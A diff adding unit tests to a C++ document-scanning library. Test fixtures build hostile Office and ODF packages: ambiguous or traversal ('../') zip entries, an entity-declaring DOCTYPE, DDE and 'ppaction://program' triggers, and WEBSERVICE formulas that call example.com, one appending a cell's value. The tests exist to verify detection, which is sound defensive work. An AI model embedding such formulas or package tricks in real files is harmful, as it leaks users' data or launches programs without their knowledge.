@@ -10,6 +10,7 @@
 #include "libintake/base64.hpp"
 #include "libintake/limits.hpp"
 #include "sample_files.hpp"
+#include "zip_builder.hpp"
 
 using namespace intake;
 using namespace std::string_literals;
@@ -196,7 +197,7 @@ TEST_SUITE("active") {
     for (const std::string& bytes :
          {ole({{"EncryptedPackage", "x"}, {"EncryptionInfo", "x"}}), ole({{"Workbook", record(0x2F, "\0\0"s)}}),
           word_document("x", 0x0100), ole({{"PowerPoint Document", ""}, {"EncryptedSummary", "x"}}),
-          sample::odt("", {{"META-INF/manifest.xml", "<manifest><encryption-data/></manifest>"}})}) {
+          sample::odt("", {}, "<manifest><encryption-data/></manifest>")}) {
       const auto report = look(bytes);
       CHECK(report.has("scan.encrypted"));
       CHECK_FALSE(report.complete);
@@ -302,14 +303,67 @@ TEST_SUITE("active") {
   }
 
   TEST_CASE("limits are told: sizes that are declared, parts, repeated names") {
-    const auto large = look(sample::zip({{"word/document.xml", "<x/>"}, {"[Content_Types].xml", "<x/>"}}, 0xF0000000));
-    CHECK(large.has("scan.limit"));
-    CHECK(look(sample::zip({{"a.bin", "x"}}, limits::scan_file_bytes + 1)).has("scan.limit"));
+    const auto claims = [](std::size_t packed, std::uint32_t size) {
+      return look(zip_builder::build({{.name = "[Content_Types].xml", .content = "<x/>"},
+                                      {.content = std::string(packed, 'x'), .method = 8, .size = size}}));
+    };
+    CHECK(claims(10, 0xF0000000).has("scan.limit"));
+    CHECK(claims(200'000, limits::scan_file_bytes + 1).has("scan.limit"));
     sample::parts many;
     for (std::size_t i = 0; i <= limits::container_entries; ++i) many.emplace_back(std::to_string(i), "");
     CHECK(look(sample::zip(many)).has("scan.limit"));
     CHECK(look(sample::zip({{"[Content_Types].xml", "<x/>"}, {"a.xml", "<x/>"}, {"A.xml", "<x/>"}}))
               .has("archive.ambiguous"));
+  }
+
+  TEST_CASE("a package that can be read in two ways, or fails a checksum, is told and never complete") {
+    using zip_builder::build;
+    const zip_builder::entry types{.name = "[Content_Types].xml", .content = "<x/>"};
+    const auto told = [&](const std::string& bytes, const std::string& code) {
+      const auto report = look(bytes);
+      CHECK_MESSAGE(codes(report) == code + ' ', codes(report));
+      CHECK_FALSE(report.complete);
+    };
+    told(build({types, {.name = "word/a.xml", .content = "<x/>", .local_name = "word/b.xml"}}), "archive.ambiguous");
+    told(build({types, {.name = "word/a.xml", .content = "<x/>"}, {.name = "word/A.xml", .content = "<y/>"}}),
+         "archive.ambiguous");
+    told(build({types}, {.suffix = "behind"}), "archive.ambiguous");
+    told(build({types}, {.prefix = "PK\3\4", .shift_offsets = true}), "archive.ambiguous");
+    told(build({types, {.name = "../a.xml", .content = "<x/>"}}), "archive.unsafe_path");
+    told(build({types, {.name = "word/a.png", .content = "x", .crc = 1}}), "scan.failed");
+  }
+
+  TEST_CASE("a part with declarations of its own is not read, whatever part it is") {
+    const auto report = look(docx("", {{"docProps/core.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}}));
+    CHECK(codes(report) == "scan.failed ");
+    CHECK_FALSE(report.complete);
+  }
+
+  TEST_CASE("what a document fetches or starts without a relation that says so") {
+    CHECK(codes(look(docx("", {{"word/settings.xml", "<w:s xmlns:w='w'><w:mailMerge/></w:s>"}}))) ==
+          "macro.external_link ");
+    CHECK(codes(look(docx("", {{"word/webSettings.xml",
+                                "<w:s xmlns:w='w'><w:sourceFileName w:val='http://example.com/a'/></w:s>"}}))) ==
+          "macro.external_link ");
+    CHECK(codes(look(docx(
+              "", {{"word/webSettings.xml", "<w:s xmlns:w='w'><w:sourceFileName w:val='left.htm'/></w:s>"}}))) == "");
+    CHECK(codes(look(docx("", {{"xl/_rels/workbook.xml.rels",
+                                relations(relation("connections", "connections.xml"))}}))) == "macro.external_link ");
+    CHECK(codes(look(docx("", {{"ppt/slides/slide1.xml",
+                                "<p:s xmlns:p='p'><p:hlinkMouseOver action='ppaction://program'/></p:s>"}}))) ==
+          "macro.dde ");
+    const auto formula = [](const std::string& text) {
+      return codes(look(docx("", {{"xl/worksheets/sheet1.xml", "<s><f>" + text + "</f></s>"}})));
+    };
+    CHECK(formula("_xlfn.WEBSERVICE(\"http://example.com/\"&amp;A1)") == "macro.external_link ");
+    CHECK(formula("1+RTD (\"x.y\",,\"z\")") == "macro.dde ");
+    CHECK(formula("SUM(A1:B2)+ADDE(1)") == "");
+    const auto cell = [](const std::string& text) {
+      return codes(look(sample::odt("<c xmlns:table='t' table:formula='" + text + "'/>")));
+    };
+    CHECK(cell("of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)") == "macro.dde ");
+    CHECK(cell("of:=WEBSERVICE(&quot;http://example.com/&quot;)") == "macro.external_link ");
+    CHECK(cell("of:=SUM([.A1:.B2])") == "");
   }
 
   TEST_CASE("only so many findings are kept, and one of each code at least") {
